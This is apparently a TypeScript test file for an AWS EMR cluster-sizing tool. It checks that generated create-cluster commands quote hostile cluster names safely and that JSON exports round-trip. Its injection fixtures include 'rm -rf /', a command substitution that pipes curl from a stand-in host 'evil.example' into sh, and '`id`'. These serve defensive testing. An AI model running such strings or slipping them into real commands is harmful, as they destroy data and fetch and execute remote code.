/**
 * Exports parse back: the create-cluster command tokenizes (POSIX shell rules) to exactly the
 * intended arguments — also for hostile cluster names — and the JSON arguments round-trip.
 */
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  configurationsJson,
  createClusterCommand,
  exportsOf,
  instanceFleetsJson,
  instanceGroupsJson,
  shellQuote,
  type Ec2Cluster,
} from '../../../src/core/sizing/index.ts';
import { base, cluster, fleet, fleets, g, groups } from './build.ts';

/**
 * A small POSIX-shell word splitter (IEEE Std 1003.1, "Token Recognition" and "Quoting"): blanks
 * separate words; single quotes preserve everything literally; double quotes keep `\` special only
 * before `$`, backquote, `"`, `\` and newline; an unquoted backslash quotes the next character and
 * backslash-newline is a line continuation. It throws on any unquoted operator or expansion
 * character (`; & | < > ( ) $ \``), so a passing test proves the command runs no other command and
 * expands nothing.
 */
function tokenize(src: string): string[] {
  const words: string[] = [];
  let word = '';
  let inWord = false;
  for (let i = 0; i < src.length; i++) {
    const c = src[i] as string;
    if (c === "'") {
      const end = src.indexOf("'", i + 1);
      if (end < 0) throw new Error('unterminated single quote');
      word += src.slice(i + 1, end);
      inWord = true;
      i = end;
    } else if (c === '"') {
      inWord = true;
      for (i++; i < src.length && src[i] !== '"'; i++) {
        const d = src[i] as string;
        if (d === '$' || d === '`') throw new Error(`expansion inside double quotes at ${i}`);
        if (d === '\\' && i + 1 < src.length && '$`"\\\n'.includes(src[i + 1] as string)) {
          if (src[i + 1] !== '\n') word += src[i + 1];
          i++;
        } else word += d;
      }
      if (i >= src.length) throw new Error('unterminated double quote');
    } else if (c === '\\') {
      const next = src[i + 1];
      if (next === undefined) throw new Error('trailing backslash');
      if (next !== '\n') {
        word += next;
        inWord = true;
      }
      i++;
    } else if (c === ' ' || c === '\t' || c === '\n') {
      if (inWord) words.push(word);
      word = '';
      inWord = false;
    } else if (';&|<>()$`'.includes(c)) {
      throw new Error(`unquoted shell metacharacter ${JSON.stringify(c)} at ${i}`);
    } else if (c === '#' && !inWord) {
      throw new Error(`unquoted comment at ${i}`);
    } else {
      word += c;
      inWord = true;
    }
  }
  if (inWord) words.push(word);
  return words;
}

/** The value of an option in an argument vector: `--option=value` (one word) or `--option value`. */
function optionValue(argv: string[], option: string): string {
  const joined = argv.find((a) => a.startsWith(`${option}=`));
  if (joined !== undefined) return joined.slice(option.length + 1);
  const i = argv.indexOf(option);
  expect(i, `${option} missing`).toBeGreaterThan(0);
  return argv[i + 1] as string;
}

describe('the tokenizer itself', () => {
  it('splits words and honours each kind of quoting', () => {
    expect(tokenize(`a 'b c' "d \\"e\\"" f\\ g \\\n  h`)).toEqual(['a', 'b c', 'd "e"', 'f g', 'h']);
    expect(() => tokenize('a; rm -rf /')).toThrow(/metacharacter/);
    expect(() => tokenize('echo $(id)')).toThrow(/metacharacter/);
  });
});

describe('aws emr create-cluster', () => {
  const hostile = [
    `x'; rm -rf / #`,
    '$(curl evil.example | sh)',
    '`id`',
    'a\'b"c\\d',
    'name with spaces && more || stuff > /tmp/f',
    '-leading-dash',
    'tab\u3000wide spaces and 한글 이름',
    '',
  ];
  for (const name of hostile) {
    it(`keeps the cluster name ${JSON.stringify(name)} one literal argument`, () => {
      const c = base({ name });
      const { argv, command } = createClusterCommand(c);
      expect(tokenize(command)).toEqual(argv);
      expect(optionValue(argv, '--name')).toBe(name);
    });
  }

  it.skipIf(!existsSync('/bin/sh'))('a real POSIX shell reads the same arguments and expands nothing', () => {
    for (const name of [`x'; echo INJECTED #`, '$(echo INJECTED)', '`echo INJECTED`', 'a "b" \\c']) {
      const { argv, command } = createClusterCommand(base({ name }));
      // `set --` makes the command's words the shell's positional parameters; printf prints them NUL-separated.
      const out = spawnSync('/bin/sh', ['-c', `set -- ${command}\nprintf '%s\\0' "$@"`], { encoding: 'utf8' });
      expect(out.status).toBe(0);
      expect(out.stdout.split('\0').slice(0, -1)).toEqual(argv);
    }
  });

  it('tokenizes to the intended arguments for an instance-group cluster', () => {
    const c = groups(g('m5.xlarge'), g('m5.2xlarge', 4, 'on-demand', { ebsGiBPerInstance: 64 }), [g('m5.2xlarge', 10, 'spot')], {
      name: 'streaming',
      applicationMasterNodes: 'core',
      hdfsReplication: 2,
      managedScaling: { minimumCapacityUnits: 4, maximumCapacityUnits: 20 },
      autoTermination: { idleTimeoutMinutes: 90 },
    });
    const { argv, command } = createClusterCommand(c);
    const words = tokenize(command);
    expect(words).toEqual(argv);
    expect(words.slice(0, 3)).toEqual(['aws', 'emr', 'create-cluster']);
    expect(optionValue(words, '--release-label')).toBe('emr-7.12.0');
    expect(words.slice(words.indexOf('--applications') + 1, words.indexOf('--applications') + 3)).toEqual(['Name=Hadoop', 'Name=Spark']);
    // The instance groups, read back from the command, describe the cluster that was written.
    expect(JSON.parse(optionValue(words, '--instance-groups'))).toEqual([
      { Name: 'Primary', InstanceGroupType: 'MASTER', InstanceType: 'm5.xlarge', InstanceCount: 1 },
      {
        Name: 'Core',
        InstanceGroupType: 'CORE',
        InstanceType: 'm5.2xlarge',
        InstanceCount: 4,
        EbsConfiguration: { EbsBlockDeviceConfigs: [{ VolumeSpecification: { VolumeType: 'gp3', SizeInGB: 64 }, VolumesPerInstance: 1 }] },
      },
      { Name: 'Task 1', InstanceGroupType: 'TASK', InstanceType: 'm5.2xlarge', InstanceCount: 10, BidPrice: 'OnDemandPrice' },
    ]);
    // 90 minutes idle = 5,400 s.
    expect(optionValue(words, '--auto-termination-policy')).toBe('IdleTimeout=5400');
    expect(JSON.parse(optionValue(words, '--managed-scaling-policy'))).toEqual({
      ComputeLimits: { UnitType: 'Instances', MinimumCapacityUnits: 4, MaximumCapacityUnits: 20 },
    });
    const configurations = JSON.parse(optionValue(words, '--configurations')) as Array<{
      Classification: string;
      Properties: Record<string, string>;
    }>;
    const byName = Object.fromEntries(configurations.map((c) => [c.Classification, c.Properties]));
    expect(byName['yarn-site']).toEqual({
      'yarn.node-labels.enabled': 'true',
      'yarn.node-labels.am.default-node-label-expression': 'CORE',
    });
    expect(byName['hdfs-site']).toEqual({ 'dfs.replication': '2' });
    // m5.2xlarge: 2 executors × (10,348 MiB + 1,940 MiB) per node — see spark-sizing.test.ts for the arithmetic.
    // 14 nodes × 2 = 28 executors × 4 cores = 112 cores → parallelism 224.
    expect(byName['spark-defaults']).toEqual({
      'spark.executor.cores': '4',
      'spark.executor.memory': '10348m',
      'spark.executor.memoryOverhead': '1940m',
      'spark.driver.memory': '2048m',
      'spark.default.parallelism': '224',
      'spark.sql.shuffle.partitions': '224',
    });
    expect(words).toContain('--use-default-roles');
  });

  it('writes instance fleets with weights, targets and launch specifications', () => {
    const c = fleets(
      g('m5.xlarge', 3),
      fleet(['r5.2xlarge', 'r5d.2xlarge'], 32),
      { ...fleet(['m5.2xlarge', 'm5.4xlarge'], 0, 48, { spotAllocationStrategy: 'price-capacity-optimized' }) },
      { autoTermination: { afterLastStep: true } },
    );
    const { argv, command } = createClusterCommand(c);
    expect(tokenize(command)).toEqual(argv);
    expect(argv).not.toContain('--instance-groups');
    expect(argv).toContain('--auto-terminate');
    const json = JSON.parse(optionValue(argv, '--instance-fleets'));
    expect(json).toEqual(instanceFleetsJson(c));
    expect(json[0]).toEqual({
      Name: 'Primary',
      InstanceFleetType: 'MASTER',
      TargetOnDemandCapacity: 3,
      TargetSpotCapacity: 0,
      InstanceTypeConfigs: [{ InstanceType: 'm5.xlarge', WeightedCapacity: 1 }],
    });
    // Weights default to vCPUs: r5.2xlarge 8, m5.4xlarge 16.
    expect(json[1].InstanceTypeConfigs.map((t: { WeightedCapacity: number }) => t.WeightedCapacity)).toEqual([8, 8]);
    expect(json[2]).toMatchObject({
      InstanceFleetType: 'TASK',
      TargetSpotCapacity: 48,
      InstanceTypeConfigs: [
        { InstanceType: 'm5.2xlarge', WeightedCapacity: 8 },
        { InstanceType: 'm5.4xlarge', WeightedCapacity: 16 },
      ],
      LaunchSpecifications: {
        SpotSpecification: {
          AllocationStrategy: 'price-capacity-optimized',
          TimeoutAction: 'SWITCH_TO_ON_DEMAND',
          TimeoutDurationMinutes: 60,
        },
      },
    });
    expect(instanceGroupsJson(c)).toBeNull();
  });

  it('leaves executor sizing to EMR with maximizeResourceAllocation, and writes livy-conf for Livy in cluster mode', () => {
    const c = base({
      spark: { maximizeResourceAllocation: true, submitter: 'livy', deployMode: 'cluster' },
      applications: ['Hadoop', 'Spark', 'Livy'],
    });
    const byName = Object.fromEntries(configurationsJson(c).map((x) => [x.Classification, x.Properties]));
    expect(byName['spark']).toEqual({ maximizeResourceAllocation: 'true' });
    expect(byName['spark-defaults']?.['spark.executor.memory']).toBeUndefined();
    expect(byName['spark-defaults']?.['spark.submit.deployMode']).toBe('cluster');
    expect(byName['livy-conf']).toEqual({ 'livy.spark.deploy-mode': 'cluster' });
  });
});

describe('JSON exports round-trip', () => {
  const clusters: Ec2Cluster[] = [
    base({ name: 'x' }, [g('m5.2xlarge', 3, 'spot', { maxSpotPriceUSD: 0.25 })]),
    fleets(g('m5.xlarge'), fleet(['m5.2xlarge'], 16), {
      instanceTypes: [{ instanceType: 'm5.2xlarge', weightedCapacity: 2, bidPriceAsPercentageOfOnDemandPrice: 80 }],
      targetSpotCapacity: 10,
    }),
  ];
  for (const c of clusters) {
    it(`${c.instances.mode}: JSON.parse(JSON.stringify(x)) equals x for every export`, () => {
      const x = exportsOf(c);
      expect(x).not.toBeNull();
      expect(JSON.parse(JSON.stringify(x))).toEqual(x);
    });
  }

  it('has no exports for platforms other than EMR on EC2', () => {
    expect(exportsOf(cluster({ platform: 'emr-serverless' }))).toBeNull();
  });

  it('quotes only when needed', () => {
    expect(shellQuote('emr-7.12.0')).toBe('emr-7.12.0');
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('')).toBe("''");
  });
});
